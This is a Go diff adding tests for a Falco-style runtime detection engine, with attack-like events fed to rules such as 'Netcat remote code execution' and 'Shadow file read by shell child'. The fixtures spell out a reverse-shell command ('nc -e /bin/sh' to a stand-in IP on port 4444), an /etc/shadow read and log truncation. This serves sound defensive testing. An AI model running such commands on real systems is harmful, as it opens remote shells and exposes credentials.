@@ -2,6 +2,7 @@ package ruleset
 
 import (
 	"errors"
+	"net/netip"
 	"slices"
 	"strings"
 	"sync"
@@ -272,6 +273,99 @@ func TestCompileFilter(t *testing.T) {
 		var ce *condition.Error
 		if !errors.As(err, &ce) {
 			t.Errorf("CompileFilter(%q) = %v, want *condition.Error", bad, err)
+		}
+	}
+}
+
+// TestEngineGuardsAgree checks, over the benchmark's event mix and both
+// rulesets, that the engine (index, guards, shared predicate cache) reports
+// exactly the rules whose programs, run alone without guards, match.
+func TestEngineGuardsAgree(t *testing.T) {
+	defaults, err := LoadDefaults()
+	if err != nil {
+		t.Fatal(err)
+	}
+	falco, err := LoadPaths("testdata/engine/falco_style.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	evs := eventMix(2048)
+	for name, rules := range map[string][]*Rule{"defaults": defaults.Rules, "falco-style": falco.Rules} {
+		e, err := NewEngine(rules, DefaultOptions())
+		if err != nil {
+			t.Fatal(err)
+		}
+		bare := map[string]*Program{}
+		for _, r := range rules {
+			p, err := Compile(r.Expanded)
+			if err != nil {
+				t.Fatal(err)
+			}
+			p.guards = nil
+			bare[r.Name] = p
+		}
+		total := 0
+		for i, ev := range evs {
+			got := map[string]bool{}
+			e.Process(ev, func(m Match) { got[m.Rule.Name] = true })
+			for _, r := range rules {
+				want := r.Enabled && bare[r.Name].Match(ev)
+				if got[r.Name] != want {
+					t.Errorf("%s: event %d (%s by %s): engine %v, program alone %v", name, i, ev.Type, ev.Proc.Comm, got[r.Name], want)
+				}
+				if want {
+					total++
+				}
+			}
+		}
+		if total == 0 {
+			t.Errorf("%s: no rule matched the mix; the comparison shows nothing", name)
+		}
+	}
+}
+
+// TestEngineFalcoStyleRules feeds attack-like events to the Falco-style
+// rules of testdata/engine and checks which rules fire.
+func TestEngineFalcoStyleRules(t *testing.T) {
+	rs, err := LoadPaths("testdata/engine/falco_style.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	e, err := NewEngine(rs.Rules, DefaultOptions())
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, bash, chattr, nc := testProcs()
+	_, _, root, netcat := testProcs()
+	root.Uid, root.Euid, root.UserName = 0, 0, "root"
+	nginx := &event.Process{Pid: 50, Comm: "nginx", ExePath: "/usr/sbin/nginx", ContainerID: "host", Parent: bash.Parent}
+	sh := &event.Process{Pid: 51, Comm: "sh", ExePath: "/bin/sh", Cmdline: "sh -c id", ArgLine: "-c id", ContainerID: "host", Parent: nginx}
+	netcat.ArgLine, netcat.Cmdline = "-e /bin/sh 203.0.113.9 4444", "nc -e /bin/sh 203.0.113.9 4444"
+	tests := []struct {
+		name string
+		ev   *event.Event
+		want []string
+	}{
+		{"chattr by alice", &event.Event{Type: event.TypeExecve, Proc: chattr}, []string{"Chattr immutable"}},
+		{"chattr by root", &event.Event{Type: event.TypeExecve, Proc: root}, nil},
+		{"nc -e", &event.Event{Type: event.TypeExecve, Proc: netcat},
+			[]string{"Netcat remote code execution", "Launch suspicious network tool"}},
+		{"shell under nginx", &event.Event{Type: event.TypeExecve, Proc: sh}, []string{"Web server spawned shell"}},
+		{"truncate a log", &event.Event{Type: event.TypeOpenat, Proc: bash, Fd: 3, Res: 3, Path: "/var/log/auth.log", Flags: 0x1 | 0x200},
+			[]string{"Clear log activities"}},
+		{"append a log", &event.Event{Type: event.TypeOpenat, Proc: bash, Fd: 3, Res: 3, Path: "/var/log/auth.log", Flags: 0x1 | 0x400}, nil},
+		{"write /usr/bin", &event.Event{Type: event.TypeOpenat, Proc: bash, Fd: 3, Res: 3, Path: "/usr/bin/ls", Flags: 0x1},
+			[]string{"Write below binary dir"}},
+		{"shadow read by bash child", &event.Event{Type: event.TypeOpenat, Proc: chattr, Fd: 3, Res: 3, Path: "/etc/shadow"},
+			[]string{"Read sensitive file untrusted", "Shadow file read by shell child"}},
+		{"C2 connect", &event.Event{Type: event.TypeConnect, Proc: nc, Fd: 3, Res: -115, Sock: event.Sock{Family: event.AFInet, Type: 1,
+			Role: event.RoleClient, Remote: netip.MustParseAddrPort("203.0.113.9:4444")}}, []string{"Outbound connection to C2 port"}},
+		{"private connect", &event.Event{Type: event.TypeConnect, Proc: nc, Fd: 3, Res: -115, Sock: event.Sock{Family: event.AFInet, Type: 1,
+			Role: event.RoleClient, Remote: netip.MustParseAddrPort("10.1.2.3:4444")}}, nil},
+	}
+	for _, tt := range tests {
+		if got := process(e, tt.ev); !slices.Equal(got, tt.want) {
+			t.Errorf("%s: fired %q, want %q", tt.name, got, tt.want)
 		}
 	}
 }
